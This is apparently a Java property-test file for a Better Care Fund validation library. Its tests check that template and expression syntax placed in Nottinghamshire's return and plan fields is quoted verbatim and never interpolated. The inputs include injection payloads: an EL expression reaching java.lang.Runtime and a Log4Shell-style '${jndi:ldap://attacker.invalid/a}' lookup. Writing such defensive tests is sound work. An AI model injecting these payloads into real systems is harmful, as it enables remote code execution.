package dev.bcfkit.examples.hostile;

import static dev.bcfkit.testkit.assertions.ReportAssert.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.bcfkit.core.Text;
import dev.bcfkit.core.plan.Plan;
import dev.bcfkit.core.returns.QuarterlyReturn;
import dev.bcfkit.json.BcfJson;
import dev.bcfkit.rules.Finding;
import dev.bcfkit.rules.Report;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/**
 * User text is never a message template (docs/SECURITY.md): Bean Validation runs with the
 * {@code ParameterMessageInterpolator} and no expression language, and the rules append user text
 * to their messages after any interpolation. Template and expression syntax typed into a cover,
 * a name or a narrative of Nottinghamshire's 2017/18 Q2 return ({@code [000]}) or its 2014 plan
 * ({@code [003]}) comes back verbatim: through the JSON reader, in the findings that quote it, in
 * the {@code bcf} tool's output, and through the writer.
 */
class VerbatimFindingsProperties {
    private static final BcfJson JSON = BcfJson.strict();
    private static final ObjectMapper QUOTE = new ObjectMapper();
    private static final String RETURN = sample("nottinghamshire-2017-18-q2.json");
    private static final String PLAN = sample("nottinghamshire-plan-2014.json");
    private static final String BOARD = "\"name\": \"Nottinghamshire\"\n    },\n    \"completedBy\"";
    private static final String ONS_CODE = "/cover/healthAndWellbeingBoard/onsCode";
    private static final String KEY = "{jakarta.validation.constraints.NotNull.message}";
    private static final String RUNTIME = "${''.getClass().forName('java.lang.Runtime')}";

    private static String sample(String name) {
        try {
            return Files.readString(Path.of("data", name), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String json(String text) {
        try {
            return QUOTE.writeValueAsString(text);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Nottinghamshire's return with the board's ONS code (a pattern-checked cover field) set to {@code text}. */
    private static byte[] withOnsCode(String text) {
        assertTrue(RETURN.contains(BOARD));
        return RETURN.replace(BOARD, "\"name\": \"Nottinghamshire\",\n      \"onsCode\": " + json(text)
                + "\n    },\n    \"completedBy\"").getBytes(StandardCharsets.UTF_8);
    }

    private static Finding onlyFinding(Report report, String rule, String path) {
        List<Finding> at = assertThat(report).hasFinding(rule).at(path).findings();
        assertEquals(1, at.size(), () -> rule + " at " + path + " in " + report.findings());
        return at.get(0);
    }

    @Example
    void aDollarTemplateInTheCoverIsQuotedVerbatimByItsFindingAndWrittenAsTyped() {
        QuarterlyReturn r = (QuarterlyReturn) JSON.readDocument(withOnsCode("${1+1}"), "notts.json");
        assertEquals("${1+1}", r.cover().healthAndWellbeingBoard().onsCode());
        Finding f = onlyFinding(Validation.validate(r), "SHAPE-VIOLATION", ONS_CODE);
        assertEquals("must match \"E\\d{8}\" (@Pattern), found \"${1+1}\"", f.message());
        assertTrue(JSON.writeString(r).contains("\"onsCode\": \"${1+1}\""));
    }

    @Example
    void aMessageKeyInATooLongContactNumberIsNotExpanded() {
        String number = KEY.repeat(3);
        byte[] bytes = RETURN.replace("\"contactNumber\": \"0115 9773577\"", "\"contactNumber\": " + json(number))
                .getBytes(StandardCharsets.UTF_8);
        QuarterlyReturn r = (QuarterlyReturn) JSON.readDocument(bytes, "notts.json");
        Finding f = onlyFinding(Validation.validate(r), "SHAPE-VIOLATION", "/cover/contactNumber");
        assertEquals("size must be between 0 and 100 (@Size), found \"" + Text.abbreviate(number) + "\"", f.message());
        assertTrue(f.message().contains("found \"" + KEY), f.message());
        assertFalse(f.message().contains("must not be null"), f.message());
        assertEquals(number, JSON.read(JSON.write(r), QuarterlyReturn.class).cover().contactNumber());
    }

    @Example
    void anExpressionInAPlanSignOffIsQuotedVerbatimByTheRuleThatNamesIt() {
        byte[] bytes = PLAN.replace("\"body\": \"Bassetlaw\"", "\"body\": " + json(RUNTIME))
                .getBytes(StandardCharsets.UTF_8);
        Plan p = (Plan) JSON.readDocument(bytes, "plan.json");
        Finding f = onlyFinding(Validation.validate(p), "PLAN-SIGN-OFF-UNKNOWN-CCG", "/signOffs/0/body");
        assertTrue(f.message().startsWith("Sign-off on behalf of the Clinical Commissioning Group '" + RUNTIME + "'"),
                f.message());
        assertEquals(RUNTIME, JSON.read(JSON.write(p), Plan.class).signOffs().get(0).body());
    }

    @Example
    void templatesInANarrativeComeBackVerbatim() {
        String narrative = "${1+1} #{1+1} " + KEY + " " + RUNTIME + " %s {0}";
        String progress = RETURN.lines().filter(l -> l.startsWith("    \"progress\": ")).findFirst().orElseThrow();
        byte[] bytes = RETURN.replace(progress, "    \"progress\": " + json(narrative) + ",")
                .getBytes(StandardCharsets.UTF_8);
        QuarterlyReturn r = (QuarterlyReturn) JSON.readDocument(bytes, "notts.json");
        assertEquals(narrative, r.narrative().progress());
        String written = JSON.writeString(r);
        assertTrue(written.contains("\"progress\": " + json(narrative) + ","), written);
        Validation.validate(r);
        assertEquals(narrative, r.narrative().progress(), "judging changes nothing");
    }

    @Example
    void theToolPrintsTheQuotedTemplateVerbatimInTextAndJson() throws Exception {
        byte[] bytes = withOnsCode("${1+1}");
        CliRun text = CliRun.of(new ByteArrayInputStream(bytes), List.of("check", "-"));
        assertEquals(1, text.status(), text.err());
        assertTrue(text.out().contains("SHAPE-VIOLATION at " + ONS_CODE + ": must match \"E\\d{8}\" (@Pattern), found"
                + " \"${1+1}\""), text.out());
        CliRun json = CliRun.of(new ByteArrayInputStream(bytes), List.of("check", "--format", "json", "-"));
        JsonNode findings = QUOTE.readTree(json.out()).get("files").get(0).get("findings");
        boolean quoted = false;
        for (JsonNode f : findings) {
            quoted |= f.get("path").textValue().equals(ONS_CODE)
                    && f.get("message").textValue().endsWith("found \"${1+1}\"");
        }
        assertTrue(quoted, json.out());
    }

    @Property(tries = 200)
    void anyTemplateInAPatternCheckedCellIsQuotedAsTyped(@ForAll("templates") String text) {
        QuarterlyReturn r = (QuarterlyReturn) JSON.readDocument(withOnsCode(text), "notts.json");
        Finding f = onlyFinding(Validation.validate(r), "SHAPE-VIOLATION", ONS_CODE);
        assertEquals("must match \"E\\d{8}\" (@Pattern), found \"" + Text.abbreviate(text) + "\"", f.message());
        assertEquals(text, JSON.read(JSON.write(r), QuarterlyReturn.class).cover().healthAndWellbeingBoard().onsCode());
    }

    @Provide
    Arbitrary<String> templates() {
        Arbitrary<String> piece = Arbitraries.oneOf(Arbitraries.of("${1+1}", "#{1+1}", KEY, RUNTIME,
                "${validatedValue}", "{validatedValue}", "{regexp}", "{max}", "%s", "%n", "{0}", "\\${1+1}", "$${1+1}",
                "${jndi:ldap://attacker.invalid/a}"), Arbitraries.strings().alpha().numeric().ofMaxLength(5));
        return piece.list().ofMinSize(1).ofMaxSize(4).map(p -> String.join("", p))
                .filter(s -> !s.matches("E\\d{8}"));
    }
}
